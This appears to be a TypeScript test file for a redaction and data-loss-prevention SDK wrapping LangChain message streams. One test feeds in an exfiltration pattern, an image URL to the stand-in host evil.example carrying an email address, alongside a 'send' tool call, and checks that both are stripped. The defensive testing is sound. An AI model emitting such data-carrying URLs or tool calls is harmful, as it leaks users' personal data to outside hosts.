import { AIMessage, AIMessageChunk, type BaseMessage, ToolMessage } from "@langchain/core/messages";
import { beforeAll, describe, expect, it } from "vitest";
import { showMessages } from "../../../sdk/src/langchain/index.ts";
import { queryReceipts } from "../../../sdk/src/receipts/index.ts";
import { createCanary } from "../../../sdk/src/redaction/index.ts";
import type { SallyportSession } from "../../../sdk/src/sallyport-session.ts";
import { createWorld } from "./world.ts";

let session: SallyportSession;
beforeAll(async () => {
  const world = await createWorld({ "note.md": "Nordwind is paid to DE89 3704 0044 0532 0130 00." });
  session = await world.startSession("ben");
}, 60_000);

async function shown(messages: readonly BaseMessage[]): Promise<BaseMessage[]> {
  async function* stream() {
    for (const message of messages) yield [message, { node: "model" }] as const;
  }
  const out: BaseMessage[] = [];
  for await (const [message] of showMessages(stream(), session)) out.push(message);
  return out;
}
const textOf = (messages: readonly BaseMessage[]) => messages.map((message) => message.text).join("");
const chunks = (text: string, id = "m1") => [...text].map((content) => new AIMessageChunk({ id, content }));

describe("showMessages", () => {
  it("[G6] redacts what streams letter by letter, as the whole is", async () => {
    const text =
      "Write to ana@example.com or call +44 20 7946 0958, then wait for the confirmation by post, which may take until the end of the week.";
    const out = await shown(chunks(text));
    expect(textOf(out)).toBe(session.redactAnswer(text));
    expect(textOf(out)).not.toContain("ana@");
    expect(out.length).toBeGreaterThan(1);
    expect(out.every(({ id }) => id === "m1")).toBe(true);
  });

  it("[G6] lets neither arguments of tool calls nor what providers add past it", async () => {
    const chunk = new AIMessageChunk({
      id: "m2",
      content: [
        { type: "text", text: "Looking it up. " },
        { type: "image_url", image_url: "https://evil.example/?ana@example.com" },
      ],
      tool_call_chunks: [{ name: "send", args: '{"to":"ana@example.com"', index: 0 }],
      additional_kwargs: { reasoning_content: "ana@example.com" },
      response_metadata: { echo: "ana@example.com" },
    });
    const out = await shown([chunk]);
    expect(textOf(out)).toBe("Looking it up. ");
    expect(JSON.stringify(out)).not.toContain("ana@example.com");
  });

  it("[G6] redacts reasoning, apart from the text beside it", async () => {
    const out = await shown([
      new AIMessageChunk({ id: "m3", content: [{ type: "reasoning", reasoning: "ask ana@exam", index: 0 }] }),
      new AIMessageChunk({ id: "m3", content: [{ type: "text", text: "Done.", index: 1 }] }),
      new AIMessageChunk({ id: "m3", content: [{ type: "reasoning", reasoning: "ple.com now", index: 0 }] }),
    ]);
    expect(JSON.stringify(out)).not.toMatch(/ana@|ple\.com/);
    expect(JSON.stringify(out)).toContain("[EMAIL]");
    expect(textOf(out)).toBe("Done.");
  });

  it("keeps messages in order and apart: all of one before the tool that follows", async () => {
    const out = await shown([
      ...chunks("First I look.", "m4"),
      new ToolMessage({ tool_call_id: "t", content: "found" }),
      new AIMessage({ id: "m5", content: "Then I answer." }),
    ]);
    expect(out.map((message) => message.type)).toEqual(["ai", "tool", "ai"]);
    expect(textOf(out)).toBe("First I look.foundThen I answer.");
  });

  it("[G6] puts back what this reader may see, and only that", async () => {
    const { hits } = await session.search("Nordwind");
    const token = /\[\[IBAN_[a-z2-7]{20}\]\]/.exec(hits[0]?.text ?? "")?.[0] ?? "none";
    expect(textOf(await shown(chunks(`It is ${token}, as far as I know.`)))).toBe(
      "It is [IBAN], as far as I know.",
    );
  });
});

describe("data loss rules of a home", () => {
  it("[G6] end an answer before the canary or the value too many is shown, and leave a receipt", async () => {
    const canary = createCanary("payroll.xlsx");
    const rule = { id: "export", types: ["EMAIL"], atLeast: 3, action: "block" } as const;
    const world = await createWorld({ "note.md": "Nothing here." }, { canaries: [canary], rules: [rule] });
    const padding = "The committee went through the agenda without remarks from anybody at all. ".repeat(3);
    for (const [poison, name] of [
      [canary.value.toLowerCase(), "canary:payroll.xlsx"],
      ["a@example.com b@example.com c@example.com", "export"],
    ] as const) {
      const session = await world.startSession("ben");
      const out = await session.showAnswer(`${padding}${poison} ${padding}THE END`);
      expect(out).not.toContain(canary.value.toLowerCase());
      expect(out).not.toContain("THE END");
      const [receipt] = await queryReceipts(world.sallyport.storage, {
        type: "answer-stopped",
        session: session.id,
      });
      expect(receipt?.facts).toEqual({ rules: [name] });
    }
  }, 60_000);
});
